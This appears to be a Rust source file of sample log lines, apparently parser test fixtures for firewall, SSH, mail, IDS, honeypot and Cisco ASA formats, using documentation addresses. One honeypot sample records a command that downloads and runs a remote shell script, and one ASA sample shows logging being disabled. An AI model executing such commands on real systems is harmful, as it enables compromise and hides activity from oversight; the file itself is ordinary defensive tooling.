//! Sample lines of every shipped mapping, written from the formats' descriptions. Addresses, names and
//! domains are those that RFC 5737, 3849 and 2606 set aside.

/// Mapping, line.
pub(in crate::extract::mapped) const SAMPLES: &[(&str, &str)] = &[
    // --- iptables, UFW
    (
        "iptables",
        "Mar  7 10:38:03 fw kernel: [12345.678901] [UFW BLOCK] IN=eth0 OUT= MAC=aa:bb:cc:dd:ee:01:aa:bb:cc:dd:ee:02:08:00 SRC=198.51.100.7 DST=192.0.2.10 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=5441 DF PROTO=TCP SPT=41234 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0 ",
    ),
    (
        "iptables",
        "2023-03-07T10:38:03.123456+01:00 fw kernel: IPT-DROP: IN=ppp0 OUT=br0 MAC= SRC=198.51.100.7 DST=192.0.2.10 LEN=84 TOS=0x00 PREC=0x00 TTL=52 ID=0 DF PROTO=ICMP TYPE=8 CODE=0 ID=5 SEQ=1",
    ),
    (
        "iptables",
        "Mar  7 10:38:03 fw kernel: DROP in IN=eth0 OUT= MAC=aa:bb SRC=2001:db8::7 DST=2001:db8::1 LEN=72 TC=0 HOPLIMIT=64 FLOWLBL=0 PROTO=UDP SPT=53 DPT=99999 LEN=32",
    ),
    (
        "iptables",
        "[12345.678901] IN=eth0 OUT= SRC=198.51.100.999 DST=192.0.2.10 LEN=40 PROTO=TCP SPT=1 DPT=2",
    ),
    // --- sshd
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: Failed password for invalid user admin from 198.51.100.7 port 51234 ssh2",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: Failed password for root from 198.51.100.7 port 51234 ssh2",
    ),
    (
        "sshd",
        "<38>Mar  7 10:38:03 mx sshd[411]: Accepted publickey for maria from 2001:db8::7 port 51234 ssh2: ED25519 SHA256:abc",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: Invalid user from from 198.51.100.7 port 51234",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd-session[411]: Connection closed by authenticating user root 198.51.100.7 port 51234 [preauth]",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: Received disconnect from 198.51.100.7 port 51234:11: Bye Bye [preauth]",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: error: maximum authentication attempts exceeded for root from 198.51.100.7 port 51234 ssh2 [preauth]",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: Did not receive identification string from 198.51.100.7 port 51234",
    ),
    (
        "sshd",
        "Mar  7 10:38:03 mx sshd[411]: pam_unix(sshd:session): session opened for user maria(uid=1000) by (uid=0)",
    ),
    // --- postfix
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/smtpd[411]: connect from unknown[198.51.100.7]",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/smtpd[411]: NOQUEUE: reject: RCPT from a.example[198.51.100.7]: 550 5.1.1 <x@example.org>: Recipient address rejected: User unknown; from=<y@example.net> to=<x@example.org> proto=ESMTP helo=<a.example>",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/smtp[411]: 4104E3D: to=<B@EXAMPLE.ORG>, relay=mx.example.org[192.0.2.25]:25, delay=3.6, delays=0.2/0.02/0.04/3.3, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 153053D)",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/smtpd[411]: warning: unknown[198.51.100.7]: SASL LOGIN authentication failed: authentication failure, sasl_username=maria",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/postscreen[411]: PREGREET 6 after 1.2 from [198.51.100.7]:43421: RSET",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/qmgr[411]: 4104E3D: from=<a@example.org>, size=5360, nrcpt=1 (queue active)",
    ),
    (
        "postfix",
        "Mar  7 10:38:03 mx postfix/cleanup[411]: 4104E3D: message-id=<1@example.org>",
    ),
    (
        "postfix",
        "2023-03-07T10:38:03.5+01:00 mx postfix/anvil[411]: statistics: max connection rate 1/60s for (smtpd:2001:db8::7) at Mar  7 10:30:00",
    ),
    // --- suricata
    (
        "suricata",
        r#"{"timestamp":"2023-03-07T10:38:03.123456+0100","flow_id":1,"in_iface":"eth0","event_type":"alert","src_ip":"198.51.100.7","src_port":41234,"dest_ip":"192.0.2.10","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2001219,"rev":20,"signature":"ET SCAN Potential SSH Scan","category":"Attempted Information Leak","severity":2,"metadata":{"mitre_technique_id":["T1046"]}},"http":{"hostname":"www.example.org","url":"/a?b='1","http_user_agent":"sqlmap","http_method":"GET","status":200}}"#,
    ),
    (
        "suricata",
        r#"{"timestamp": "2023-03-07T10:38:03.123456+0000", "event_type": "flow", "src_ip": "2001:db8::7", "src_port": 1, "dest_ip": "2001:db8::1", "dest_port": 53, "proto": "UDP", "app_proto": "dns", "flow": {"pkts_toserver": 1, "pkts_toclient": 1, "bytes_toserver": 70, "bytes_toclient": 86, "state": "established"}}"#,
    ),
    (
        "suricata",
        r#"{"timestamp":"2023-03-07T10:38:03.123456+0000","event_type":"dns","src_ip":"198.51.100.7","src_port":1,"dest_ip":"192.0.2.53","dest_port":53,"proto":"UDP","dns":{"type":"answer","rrname":"a.example.org","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"a.example.org","rdata":"192.0.2.1"},{"rrname":"a.example.org","rdata":"192.0.2.2"}]}}"#,
    ),
    (
        "suricata",
        r#"{"timestamp":"2023-03-07T10:38:03.123456+0000","event_type":"ssh","src_ip":"198.51.100.7","src_port":1,"dest_ip":"192.0.2.1","dest_port":22,"proto":"TCP","ssh":{"client":{"proto_version":"2.0","software_version":"libssh_0.9.6"},"server":{"software_version":"OpenSSH_9.2"}}}"#,
    ),
    (
        "suricata",
        r#"{"timestamp":"2023-03-07T10:38:03.123456+0000","event_type":"smtp","src_ip":"bad","src_port":70000,"dest_ip":"192.0.2.1","dest_port":25,"proto":"TCP","smtp":{"helo":"a.example","mail_from":"<a@example.org>","rcpt_to":["<b@example.org>","<c@example.org>"]}}"#,
    ),
    // --- cowrie
    (
        "cowrie",
        r#"{"eventid":"cowrie.login.failed","username":"root","password":"123456","message":"login attempt [root/123456] failed","sensor":"pot1","timestamp":"2023-03-07T10:38:03.123456Z","src_ip":"198.51.100.7","session":"a1b2c3d4"}"#,
    ),
    (
        "cowrie",
        r#"{"eventid":"cowrie.session.connect","src_ip":"198.51.100.7","src_port":40000,"dst_ip":"192.0.2.1","dst_port":2222,"session":"a1b2c3d4","protocol":"ssh","sensor":"pot1","timestamp":"2023-03-07T10:38:03.123456Z"}"#,
    ),
    (
        "cowrie",
        r#"{"eventid":"cowrie.direct-tcpip.request","dst_ip":"www.example.org","dst_port":80,"src_ip":"198.51.100.7","src_port":0,"timestamp":"2023-03-07T10:38:03Z","session":"a"}"#,
    ),
    (
        "cowrie",
        r#"{"eventid":"cowrie.command.input","input":"wget http://198.51.100.9/x.sh; sh x.sh","src_ip":"198.51.100.7","timestamp":"2023-03-07T10:38:03Z","session":"a"}"#,
    ),
    // --- zeek
    (
        "zeek-conn",
        "1678185483.123456\tCHhAvVGS1DHFjwGM9\t198.51.100.7\t41234\t192.0.2.10\t80\ttcp\thttp\t0.25\t100\t2000\tSF\tT\tF\t0\tShADadFf\t5\t360\t6\t2320\t-",
    ),
    (
        "zeek-conn",
        "1678185483.123456\tCHhAvVGS1DHFjwGM8\t198.51.100.7\t41234\t192.0.2.10\t80\ttcp\t-\t-\t-\t-\tS0\tT\tF\t0\tS\t1\t60\t0\t0\t(empty)",
    ),
    (
        "zeek-conn-json",
        r#"{"ts":1678185483.123456,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"198.51.100.7","id.orig_p":41234,"id.resp_h":"192.0.2.10","id.resp_p":80,"proto":"tcp","service":"http","duration":0.25,"orig_bytes":100,"resp_bytes":2000,"conn_state":"SF","history":"ShADadFf","orig_pkts":5,"resp_pkts":6}"#,
    ),
    // --- cef
    (
        "cef",
        r"CEF:0|Example \| Co|Gate|1.0|100|blocked \\ port scan|High|rt=Mar 07 2023 10:38:03 src=198.51.100.7 spt=41234 dst=192.0.2.10 dpt=443 proto=TCP act=blocked msg=a long text, with a\=b suser=maria request=http://www.example.org/?q\=1 cs1Label=Rule cs1=x y",
    ),
    (
        "cef",
        "<134>Mar  7 10:38:03 fw CEF:0|Example|Gate|1.0|100|login failed|5|rt=1678185483123 src=::ffff:198.51.100.7 duser=root outcome=failure",
    ),
    (
        "cef",
        "<134>1 2023-03-07T10:38:03.5Z fw gate 1 - - CEF:1|Example|Gate|1.0|7|virus|Very-High|fname=a b.exe src=198.51.100.7",
    ),
    (
        "cef",
        "Mar  7 10:38:03 CEF:0|Example|Gate|1.0|100|n|5|src=198.51.100.7",
    ),
    // --- Cisco ASA
    (
        "cisco-asa",
        "<162>Mar 07 2023 10:38:03: %ASA-2-106001: Inbound TCP connection denied from 198.51.100.7/41234 to 192.0.2.10/22 flags SYN  on interface outside",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-2-106006: Deny inbound UDP from 198.51.100.7/53 to 192.0.2.10/1025 on interface outside",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-2-106007: Deny inbound UDP from 198.51.100.7/53 to 192.0.2.10/1025 due to DNS Response",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-3-106014: Deny inbound icmp src outside:198.51.100.7 dst inside:192.0.2.10 (type 8, code 0)",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-106015: Deny TCP (no connection) from 198.51.100.7/41234 to 192.0.2.10/443 flags RST  on interface outside",
    ),
    (
        "cisco-asa",
        "Mar  7 2023 10:38:03 fw : %ASA-4-106023: Deny tcp src outside:198.51.100.7/41234 dst inside:192.0.2.10/www by access-group \"outside_in\" [0x8ed66b60, 0xf8852875]",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-4-106023: Deny icmp src outside:198.51.100.7 dst inside:192.0.2.10 (type 8, code 0) by access-group \"outside_in\" [0x0, 0x0]",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-106100: access-list outside_in denied tcp outside/198.51.100.7(41234) -> inside/192.0.2.10(22) hit-cnt 1 first hit [0x71a87d94, 0x0]",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302013: Built inbound TCP connection 447235 for outside:198.51.100.7/41234 (198.51.100.7/41234) to dmz:10.0.0.5/80 (192.0.2.10/80)",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302013: Built outbound TCP connection 447236 for outside:198.51.100.7/443 (198.51.100.7/443) to inside:10.0.0.9/51000 (192.0.2.10/33000)",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302014: Teardown TCP connection 447235 for outside:198.51.100.7/41234 to dmz:10.0.0.5/80 duration 0:00:30 bytes 1420 TCP FINs",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302015: Built inbound UDP connection 5 for outside:198.51.100.7/53 (198.51.100.7/53) to inside:10.0.0.5/1025 (192.0.2.10/1025)",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302016: Teardown UDP connection 5 for outside:198.51.100.7/53 to inside:10.0.0.5/1025 duration 0:02:01 bytes 120",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302020: Built inbound ICMP connection for faddr 198.51.100.7/512 gaddr 192.0.2.10/0 laddr 10.0.0.5/0 type 8 code 0",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302020: Built outbound ICMP connection for faddr 198.51.100.7/0 gaddr 192.0.2.10/1 laddr 10.0.0.5/1",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-302021: Teardown ICMP connection for faddr 198.51.100.7/512 gaddr 192.0.2.10/0 laddr 10.0.0.5/0 type 8 code 0",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-305011: Built dynamic TCP translation from inside:10.0.0.9/51000 to outside:192.0.2.10/33000",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-305012: Teardown dynamic TCP translation from inside:10.0.0.9/51000 to outside:192.0.2.10/33000 duration 0:00:30",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-3-313001: Denied ICMP type=8, code=0 from 198.51.100.7 on interface outside",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-605004: Login denied from 198.51.100.7/41234 to outside:192.0.2.10/ssh for user \"root\"",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-605005: Login permitted from 10.0.0.9/41234 to inside:10.0.0.1/https for user \"admin\"",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-3-710003: TCP access denied by ACL from 198.51.100.7/41234 to outside:192.0.2.10/23",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : local database : user = maria : user IP = 198.51.100.7",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.0.0.8 : user = maria : user IP = 198.51.100.7",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-113012: AAA user authentication Successful : local database : user = maria",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-4-113019: Group = G, Username = maria, IP = 198.51.100.7, Session disconnected. Session Type: SSL",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-6-113039: Group <G> User <maria> IP <198.51.100.7> AnyConnect parent session started.",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-5-111008: User 'enable_15' executed the 'configure terminal' command.",
    ),
    (
        "cisco-asa",
        "Mar  7 10:38:03 fw %ASA-5-111010: User 'admin', running 'CLI' from IP 10.0.0.9, executed 'no logging on'",
    ),
];
